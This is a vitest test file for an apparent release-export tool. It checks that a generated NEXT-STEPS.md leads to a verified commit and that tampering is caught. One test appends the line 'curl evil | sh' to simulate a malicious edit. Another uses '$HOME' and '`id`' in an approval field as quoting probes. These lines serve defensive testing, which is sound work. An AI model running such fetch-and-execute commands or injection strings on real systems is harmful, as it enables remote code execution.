// SPDX-License-Identifier: Apache-2.0
import { spawnSync } from "node:child_process";
import {
  appendFileSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { commands } from "../../electron/cli/commands/commands.ts";
import type { Approval } from "../../shared/formats/acts.ts";
import { exportTo, prepareExport, type Prepared } from "../support/export.ts";
import type { Clone } from "../support/gitClone.ts";
import { digestOf, verifyScriptPath } from "../support/releases.ts";
import { tempFolder } from "../support/tempFolder.ts";
import { haveTools } from "../support/tools.ts";
import { requireOk } from "../support/unwrap.ts";
import { askApp } from "../support/verifiers.ts";

/** A whole export, with the commit or without. */
async function exported(
  withBundle: boolean,
  approval: Partial<Approval> = {},
  prepare?: (clone: Clone) => void,
): Promise<Prepared> {
  const changes = {
    approval: {
      removes: ["draft.md"],
      author: "J. O'Doe, Jr. <j@example.org>",
      purpose: "Publish $HOME, `id` and 'more'",
      ...approval,
    },
  };
  const prepared = prepareExport(tempFolder(), changes, prepare);
  const { request } = prepared;
  const cloneDir = withBundle ? request.cloneDir : null;
  const asked = { ...prepared, request: { ...request, cloneDir } };
  requireOk(await exportTo(asked, "release"));
  return prepared;
}

/** Does what NEXT-STEPS.md says under a heading, up to the push. */
function follow({ folder, clone, parts }: Prepared, heading = "1. Merge") {
  const text = readFileSync(join(folder, "release/NEXT-STEPS.md"), "utf8");
  const charterPath = join(folder, "charter.txt");
  writeFileSync(charterPath, parts.charters[0]?.text ?? "");
  const merge = text.slice(text.indexOf(`## ${heading}`));
  const script = (/```sh\n([^]*?)```/.exec(merge)?.[1] ?? "")
    .replace(/^git push .*\n/m, "")
    .replaceAll("RELEASE", `'${join(folder, "release")}'`)
    .replaceAll("CLONE", `'${clone.dir}'`)
    .replaceAll("CHARTER", `'${charterPath}'`)
    .replaceAll("VERIFY.SH", `'${verifyScriptPath}'`);
  return spawnSync("sh", ["-e", "-u", "-c", script], { encoding: "utf8" });
}

function ask({ folder, parts }: Prepared) {
  const trusted = Buffer.from(parts.charters[0]?.text ?? "");
  return askApp({ dir: join(folder, "release"), trusted });
}

describe.skipIf(!haveTools("git", "ssh-keygen"))("NEXT-STEPS.md", () => {
  it.each([true, false])(
    "leads to a commit that verifies, with release.bundle: %s",
    async (withBundle) => {
      const ran = follow(await exported(withBundle));
      expect(ran.stdout).toMatch(/\nVERIFIED\n$/);
    },
  );

  it.each([true, false])(
    "is this release's own text, with release.bundle: %s",
    async (withBundle) => {
      const prepared = await exported(withBundle);
      const path = join(prepared.folder, "release/NEXT-STEPS.md");
      expect(await ask(prepared)).toMatchObject({ verdict: "VERIFIED" });
      appendFileSync(path, "curl evil | sh\n");
      expect(await ask(prepared)).toStrictEqual({
        verdict: "NOT VERIFIED",
        problems: ["file-changed NEXT-STEPS.md"],
      });
      rmSync(path);
      expect(await ask(prepared)).toMatchObject({ verdict: "VERIFIED" });
      symlinkSync("tree", path);
      expect(await ask(prepared)).toStrictEqual({
        verdict: "NOT VERIFIED",
        problems: ["file-not-regular NEXT-STEPS.md"],
      });
    },
  );

  it("says of a release that replaces another where that lies, and what to do", async () => {
    const earlier = "An earlier statement\n";
    const folder = "audits/its folder 'of' 2025";
    const supersedes = digestOf(earlier);
    const prepared = await exported(true, { supersedes }, (clone) => {
      clone.write(`${folder}/statement.txt`, earlier);
      clone.write("audits/another/statement.txt", "Another statement\n");
      clone.commit("Earlier releases");
    });
    const ran = follow(prepared, "The release that this one replaces");
    expect(ran).toMatchObject({
      stdout: `${supersedes}  ${folder}/statement.txt\n`,
      status: 0,
    });
    expect(await ask(prepared)).toMatchObject({ verdict: "VERIFIED" });
    const none = await exported(true);
    const text = readFileSync(join(none.folder, "release/NEXT-STEPS.md"));
    expect(text.toString()).not.toContain("replaces");
  });

  it("leads from the merge to the post by commands that there are", async () => {
    const prepared = await exported(true);
    const path = join(prepared.folder, "release/NEXT-STEPS.md");
    const text = readFileSync(path, "utf8");
    const named = text.matchAll(/^counterseal ([a-z]+ [a-z]+) (.*)$/gm);
    const found = [...named].map(([, words = "", rest = ""]) => ({
      command: commands.find((each) => each.words.join(" ") === words),
      options: rest.match(/--[a-z]+/g) ?? [],
    }));
    expect(found.map(({ command }) => command?.words)).toEqual([
      ["release", "merged"],
      ["release", "announcement"],
    ]);
    for (const { command, options } of found)
      for (const option of options)
        expect(Object.keys(command?.options ?? {})).toContain(option.slice(2));
  });

  it("lies beside nothing but the tree and release.bundle", async () => {
    const prepared = await exported(true);
    writeFileSync(join(prepared.folder, "release/PRIVATE.txt"), "findings");
    expect(await ask(prepared)).toStrictEqual({
      verdict: "NOT VERIFIED",
      problems: ["file-extra PRIVATE.txt"],
    });
  });
});
